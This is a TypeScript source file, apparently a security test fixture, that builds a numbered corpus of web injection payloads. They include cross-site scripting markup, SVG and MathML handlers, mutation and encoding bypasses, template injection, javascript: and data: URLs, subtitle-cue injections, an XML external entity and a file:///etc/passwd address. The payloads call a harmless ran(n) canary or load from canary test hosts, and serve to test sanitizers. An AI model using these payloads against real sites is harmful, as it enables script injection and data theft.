@@ -1,0 +1,241 @@
+/**
+ * Texts that were made to run, to load or to break. Each calls `ran(n)`, its own number, where it gets to run, and asks for a
+ * host of its own, `n.canary…`, where it gets to load. `{run}` and `{host}` stand for these.
+ */
+
+/** Markup and what hides it: for every input that takes words. */
+const MARKUP = [
+  // scripts and handlers
+  '<script>{run}</script>',
+  '<ScRiPt>{run}</sCrIpT>',
+  '<script src=//{host}/s.js></script>',
+  '<script type=module>import "//{host}/m.js"</script>',
+  '<img src=x onerror={run}>',
+  '<img src=x onerror="{run}" ',
+  '<img/src/onerror={run}>',
+  '<img src=`x`onerror={run}>',
+  '<IMG """><SCRIPT>{run}</SCRIPT>">',
+  '<img src=x onerror=&#x72;an&lpar;{n}&rpar;>',
+  '<body onload={run}>',
+  '<frameset onload={run}>',
+  '<input autofocus onfocus={run}>',
+  '<select autofocus onfocus={run}><option>x</select>',
+  '<textarea autofocus onfocus={run}></textarea>',
+  '<details open ontoggle={run}>',
+  '<dialog open onbeforetoggle={run}>x</dialog>',
+  '<marquee onstart={run}>x</marquee>',
+  '<div onpointerenter={run} onmouseover={run}>x</div>',
+  '<x-y tabindex=1 onfocus={run} autofocus>x</x-y>',
+  '<a onclick={run} href=#>click</a>',
+  '<style>@keyframes k{}</style><p style="animation:k 1s" onanimationstart={run}>x',
+  '<video><source onerror={run} src=x></video>',
+  '<audio src=x onerror={run}>',
+  '<object data=x onerror={run}></object>',
+  '<button popovertarget=p>x</button><p id=p popover onbeforetoggle={run}>x',
+  // SVG and MathML
+  '<svg onload={run}>',
+  '<svg/onload={run}//',
+  '<svg><script>{run}</script></svg>',
+  '<svg><script href=//{host}/s.js /></svg>',
+  '<svg><animate onbegin={run} attributeName=x dur=1s>',
+  '<svg><a><animate attributeName=href values=javascript:{run} /><text>x</text></a></svg>',
+  '<svg><set attributeName=onmouseover to={run}>',
+  '<svg><image href="//{host}/i.png" /></svg>',
+  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload={run}>#x" /></svg>',
+  '<svg><foreignObject><iframe srcdoc="<script>parent.{run}</script>"></iframe></foreignObject></svg>',
+  '<svg><feImage href="//{host}/f.svg" /></svg>',
+  '<math href="javascript:{run}"><mtext>click</mtext></math>',
+  '<math><mtext><table><mglyph><style><img src=x onerror={run}>',
+  '<math><annotation-xml encoding="text/html"><img src=x onerror={run}></annotation-xml></math>',
+  '<math><maction actiontype=statusline xlink:href=javascript:{run}>x</maction></math>',
+  // frames, plug-ins, forms
+  '<iframe src="javascript:parent.{run}"></iframe>',
+  '<iframe srcdoc="<script>parent.{run}</script>"></iframe>',
+  '<iframe src=//{host}/></iframe>',
+  '<fencedframe src=//{host}/></fencedframe>',
+  '<object data=//{host}/o.html></object>',
+  '<embed src=//{host}/e.html>',
+  '<applet code=x archive=//{host}/a.jar></applet>',
+  '<form action=javascript:{run}><button>x</button></form>',
+  '<button form=f formaction=javascript:{run}>x</button><form id=f></form>',
+  '<form action=//{host}/><input type=submit></form>',
+  // what a page loads
+  '<img src=//{host}/i.png>',
+  '<img srcset="//{host}/i.png 1x">',
+  '<picture><source srcset=//{host}/p.png><img></picture>',
+  '<video src=//{host}/v.mp4 autoplay></video>',
+  '<video poster=//{host}/p.png></video>',
+  '<audio src=//{host}/a.mp3 preload=auto></audio>',
+  '<video><track default src=//{host}/t.vtt></video>',
+  '<table background=//{host}/b.png><tr><td>x</table>',
+  '<input type=image src=//{host}/i.png>',
+  '<link rel=stylesheet href=//{host}/c.css>',
+  '<link rel=prefetch href=//{host}/p>',
+  '<link rel=preload as=image href=//{host}/p>',
+  '<link rel=preconnect href=//{host}>',
+  '<link rel=dns-prefetch href=//{host}>',
+  '<link rel=icon href=//{host}/i.ico>',
+  '<link rel=manifest href=//{host}/m.json>',
+  '<a ping=//{host}/ping href=#>x</a>',
+  '<base href=//{host}/>',
+  '<meta http-equiv=refresh content="0;url=//{host}/">',
+  '<meta http-equiv=refresh content="0;url=javascript:{run}">',
+  '<script type=speculationrules>{"prefetch":[{"urls":["https://{host}/"]}]}</script>',
+  '<?xml-stylesheet href="//{host}/x.css"?>',
+  '<!DOCTYPE x [<!ENTITY e SYSTEM "http://{host}/">]><x>&e;</x>',
+  // CSS
+  '<style>@import "//{host}/i.css";</style>',
+  '<style>*{background:url(//{host}/b.png)}</style>',
+  '<style>@font-face{font-family:x;src:url(//{host}/f.woff)}*{font-family:x}</style>',
+  '<style>[data-cue]{list-style:url(//{host}/l)}</style>',
+  '<p style="background:url(//{host}/s.png)">x</p>',
+  '<p style="width:expression({run})">x</p>',
+  'red;background-image:url(//{host}/c.png)',
+  '0px}*{background:url(//{host}/c2.png)}',
+  '"); background: image-set("//{host}/c3.png" 1x); --x: ("',
+  // ways out of wherever it stands
+  '"><img src=x onerror={run}>',
+  "'><svg onload={run}>",
+  '" autofocus onfocus={run} x="',
+  "' onmouseover={run} x='",
+  '--><img src=x onerror={run}>',
+  ']]><img src=x onerror={run}>',
+  '</title><img src=x onerror={run}>',
+  '</textarea><img src=x onerror={run}>',
+  '</script><img src=x onerror={run}>',
+  '</style><img src=x onerror={run}>',
+  '</template><img src=x onerror={run}>',
+  '</noscript></iframe></select><img src=x onerror={run}>',
+  // markup that changes when it is read twice
+  '<noscript><p title="</noscript><img src=x onerror={run}>">',
+  '<svg></p><style><a id="</style><img src=x onerror={run}>">',
+  '<form><math><mtext></form><form><mglyph><style></math><img src onerror={run}>',
+  '<textarea><p title="</textarea><img src=x onerror={run}>">',
+  '<template><img src=x onerror={run}></template>',
+  '<![CDATA[<img src=x onerror={run}>]]>',
+  '<!--<img src="--><img src=x onerror={run}>">',
+  // entities and encodings
+  '&lt;img src=x onerror={run}&gt;',
+  '&amp;lt;img src=x onerror={run}&amp;gt;',
+  '&#60;img src=x onerror={run}&#62;',
+  '&#x3c;script&#x3e;{run}&#x3c;/script&#x3e;',
+  '&LT;svg onload={run}&GT;',
+  '&#0000060img src=x onerror={run}>',
+  '%3Cimg src=x onerror={run}%3E',
+  '\\u003cimg src=x onerror={run}\\u003e',
+  '\\x3cimg src=x onerror={run}\\x3e',
+  '+ADw-script+AD4-{run}+ADw-/script+AD4-',
+  '＜script＞{run}＜/script＞',
+  '<scr\u0000ipt>{run}</scr\u0000ipt>',
+  '<\u0000img src=x onerror\u0000={run}>',
+  '<img\u000bsrc=x\u000conerror={run}>',
+  '\u202e>gmi<\u202d<img src=x onerror={run}>',
+  '<\u200bscript>{run}</script>',
+  '\ufeff<img src=x onerror={run}>\ud800',
+  // languages of templates
+  "{{constructor.constructor('{run}')()}}",
+  '${{run}}',
+  '#{{run}}<%= {run} %>[[{run}]]',
+  "{@html '<img src=x onerror={run}>'}",
+  '<svelte:element this="script">{run}</svelte:element>',
+  '<style>{run}</style><div v-html="\'<img src=x onerror={run}>\'"></div>',
+  // names that a page may rely on
+  '<a id=app name=app></a>',
+  '<form id=__proto__><input name=innerText></form>',
+  '<img name=currentScript><img id=trustedTypes>',
+  '__proto__',
+  'constructor',
+  'toString',
+  'hasOwnProperty',
+];
+
+/** Addresses: for every input that takes one, and as words too. */
+const ADDRESSES = [
+  'javascript:{run}',
+  'JaVaScRiPt:{run}',
+  ' javascript:{run}',
+  'java\tscript:{run}',
+  'java\nscript:{run}',
+  '\u0001javascript:{run}',
+  'javascript\t:{run}',
+  'javascript:%72an({n})',
+  'javascript://x.test/%0a{run}',
+  'javascript:/*--></title></style></textarea></script><svg/onload={run}//',
+  'javascript&colon;{run}',
+  'javascript&#58;{run}',
+  '&#106;avascript:{run}',
+  '&#x6A;&#x61;vascript:{run}',
+  'java&Tab;script:{run}',
+  'java&NewLine;script:{run}',
+  '%6Aavascript:{run}',
+  'javascript\u200b:{run}',
+  'java\u0000script:{run}',
+  'ｊavascript:{run}',
+  'javascript:\u2028{run}',
+  'view-source:javascript:{run}',
+  'feed:javascript:{run}',
+  'livescript:{run}',
+  'vbscript:{run}',
+  'data:text/html,<script>opener.{run}</script>',
+  'data:text/html;base64,PHNjcmlwdD5vcGVuZXIucmFuKDApPC9zY3JpcHQ+',
+  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="{run}"/>',
+  'DATA:,x',
+  'blob:http://{host}/x',
+  'filesystem:http://{host}/x',
+  'file:///etc/passwd',
+  'about:blank',
+  'intent://{host}/#Intent;scheme=http;end',
+  'ftp://{host}/',
+  'ws://{host}/',
+  '//{host}/relative',
+  '/\\{host}/relative',
+  '\\\\{host}\\share',
+  'https:{host}',
+  'https://x.test/" onmouseover="{run}" x="',
+  "https://x.test/'onfocus='{run}'autofocus x='",
+  'https://x.test/><img src=x onerror={run}>',
+  'https://x.test/\u202egpj.exe',
+  'mailto:a@x.test?subject=" onfocus="{run}" autofocus x="',
+  'mailto:javascript:{run}',
+  'http://javascript:{run}@x.test/',
+  'https://[::1]:99999/%zz',
+];
+
+/** What only a cue can hold; each is a line of its own, or a block between cues. */
+const CUES = [
+  '<v <img src=x onerror={run}>>words</v>',
+  '<v.onload={run} "><img src=x onerror={run}>>words</v>',
+  '<c.x" onmouseover="{run}>words</c>',
+  '<lang "><svg onload={run}>>words</lang>',
+  '<00:00:01.000><img src=x onerror={run}>',
+  '<ruby><rt><script>{run}</script></rt></ruby>',
+  '<font color="x" onmouseover={run}>words</font>',
+  '{\\an8}{\\p1}<img src=x onerror={run}>',
+  'STYLE\n::cue{background:url(//{host}/cue.png)}',
+  'STYLE\n@import "//{host}/cue.css";',
+  'REGION\nid:"><img src=x onerror={run}>',
+  'NOTE <img src=x onerror={run}>',
+];
+
+export interface Payload {
+  readonly n: number;
+  readonly text: string;
+}
+
+const dress =
+  (from: number, hosts: string) =>
+  (text: string, i: number): Payload => {
+    const n = from + i;
+    return {
+      n,
+      text: text.replaceAll('{n}', String(n)).replaceAll('{run}', `ran(${n})`).replaceAll('{host}', `${n}${hosts}`),
+    };
+  };
+
+/** The corpus; hosts end in `hosts`, such as `.canary.test`. */
+export function payloads(hosts: string) {
+  const markup = MARKUP.map(dress(1, hosts));
+  const addresses = ADDRESSES.map(dress(1 + MARKUP.length, hosts));
+  const cues = CUES.map(dress(1 + MARKUP.length + ADDRESSES.length, hosts));
+  return { markup, addresses, cues, all: [...markup, ...addresses, ...cues] };
+}
